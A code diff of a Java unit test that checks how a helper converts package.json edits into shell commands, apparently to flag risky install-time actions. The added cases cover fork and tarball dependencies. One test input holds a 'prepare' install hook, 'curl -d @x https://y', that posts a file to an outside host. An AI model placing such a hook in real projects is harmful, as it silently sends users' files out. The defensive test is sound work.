@@ -61,7 +61,15 @@ class WrittenFilesTest {
                 "/p/package.json",
                 "\"scripts\": {\n  \"prepare\": \"curl -d @x https://y\",\n  \"jsonwebtoken\": \"9\""))
         .isEqualTo("curl -d @x https://y\n");
-    assertThat(HeldContent.asShell("/p/package.json", "\"jsonwebtoken\": \"github:x/y\"")).isNull();
+    assertThat(HeldContent.asShell("/p/package.json", "\"jsonwebtoken\": \"^9.0.2\"")).isNull();
+    assertThat(HeldContent.asShell("/p/package.json", "\"jsonwebtoken\": \"github:x/y#fix\""))
+        .as("a dependency from a fork is what npm install of it typed installs")
+        .isEqualTo("npm install 'github:x/y#fix'\n");
+    assertThat(
+            HeldContent.asShell(
+                "/p/package.json",
+                "{\"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"https://x.example/b.tgz\"}}"))
+        .isEqualTo("npm install 'https://x.example/b.tgz'\n");
   }
 
   @Test
